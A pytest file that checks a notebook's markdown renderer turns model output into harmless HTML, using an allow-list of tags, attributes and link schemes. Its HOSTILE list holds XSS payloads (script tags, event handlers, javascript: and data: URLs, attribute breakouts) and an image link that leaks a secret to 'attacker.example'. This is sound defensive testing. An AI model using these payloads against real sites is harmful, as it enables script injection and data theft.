"""A model's markdown as HTML: nothing in it runs, loads or leaves the page."""

from __future__ import annotations

import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from zq_notebook.text.markdown import render_markdown, top_level_blocks

HOSTILE = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "[a](javascript:alert(1))",
    "[a](JaVaScRiPt:alert(1))",
    "[a](data:text/html,<script>alert(1)</script>)",
    "[a](vbscript:x)",
    "<javascript:alert(1)>",
    "![a](https://attacker.example/?q=secret)",
    "![a](data:image/svg+xml;base64,PHN2Zz4=)",
    '![a][r]\n\n[r]: https://attacker.example/x "onload=1"',
    "```html\n<script>alert(1)</script>\n```",
    '```"><script>alert(1)</script>\nx\n```',
    '[a](https://e.example/" onmouseover=alert(1) x=")',
    "$</span><script>alert(1)</script>$",
    "|<b onclick=1>|\n|-|\n|<i>|",
]
TAG = re.compile(r"<(/?)([a-z0-9]+)((?:\s[^>]*)?)>")
ALLOWED = {
    "p": "", "strong": "", "em": "", "s": "", "code": "", "span": "class", "a": "href target rel", "pre": "class",
    "ul": "", "ol": "start", "li": "", "h1": "", "h2": "", "h3": "", "h4": "", "h5": "", "h6": "", "blockquote": "",
    "hr": "", "br": "", "div": "class", "table": "", "thead": "", "tbody": "", "tr": "", "th": "style", "td": "style",
}  # fmt: skip


def assert_harmless(html: str) -> None:
    """Every ``<`` begins a tag we make, with the attributes we give it and addresses that may be followed."""
    for match in re.finditer("<", html):
        tag = TAG.match(html, match.start())
        assert tag, html[match.start() : match.start() + 40]
        attributes = re.findall(r'\s([a-z-]+)="([^"]*)"', tag[3])
        assert {name for name, _ in attributes} <= set(ALLOWED[tag[2]].split()), tag[0]
        for name, value in attributes:
            assert name != "href" or re.match(r"(https?://|mailto:|#)", value), tag[0]
            assert name != "style" or re.fullmatch(r"text-align:(left|right|center)", value), tag[0]


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_markdown_becomes_harmless_html(text: str) -> None:
    assert_harmless(render_markdown(text))


@given(st.text(alphabet="<>[]()!`*_\"'=:/ \n$|-#&;abjsx", max_size=60))
def test_no_text_makes_a_tag_of_its_own(text: str) -> None:
    assert_harmless(render_markdown(text))


def test_a_picture_from_elsewhere_is_a_link_and_not_loaded() -> None:
    html = render_markdown("![chart](https://example.org/c.png)")
    assert "<img" not in html
    assert '<a href="https://example.org/c.png" target="_blank" rel="noopener noreferrer">chart</a>' in html


def test_a_relative_link_keeps_its_words_and_goes_nowhere() -> None:
    assert render_markdown("see [data](data.csv)") == "<p>see <a>data</a></p>\n"


def test_amounts_of_money_are_no_formula() -> None:
    html = render_markdown("between $5 and $6, or $7.")
    assert "zq-math" not in html
    assert html.count("<span>$</span>") == 3, "a front end would typeset what stands between two bare dollar signs"


@pytest.mark.parametrize("text", ["$x_1^2$", r"\(x_1^2\)"])
def test_a_formula_keeps_its_underscores(text: str) -> None:
    assert r'<span class="zq-math">\(x_1^2\)</span>' in render_markdown(text)


def test_code_is_highlighted_and_hidden_characters_in_it_are_shown() -> None:
    html = render_markdown("```python\nif admin:  # \u202e\n    pass\n```")
    assert '<span class="k">if </span>' in html
    assert "⟨U+202E⟩" in html


def test_blocks_are_where_they_are() -> None:
    text = "# Title\npara\nmore\n\n```py\na\n\nb\n```\n- x\n\n- y\n"
    pieces = [(text[b.start : b.end], b.kind) for b in top_level_blocks(text)]
    assert [piece for piece, _ in pieces] == ["# Title\n", "para\nmore\n", "```py\na\n\nb\n```\n", "- x\n\n- y\n"]
    fence = top_level_blocks(text)[2]
    assert (text[fence.code_start : fence.code_end], fence.language, fence.closed) == ("a\n\nb\n", "py", True)


@pytest.mark.parametrize(
    ("text", "closed"), [("```\na", False), ("```\na\n``", False), ("~~~\n```\n~~~", True), ("```", False)]
)
def test_an_open_fence_is_known_to_be_open(text: str, closed: bool) -> None:
    assert top_level_blocks(text)[0].closed is closed


def test_a_lone_surrogate_does_not_stop_the_rendering() -> None:
    assert "�" in render_markdown("a \ud800 b")
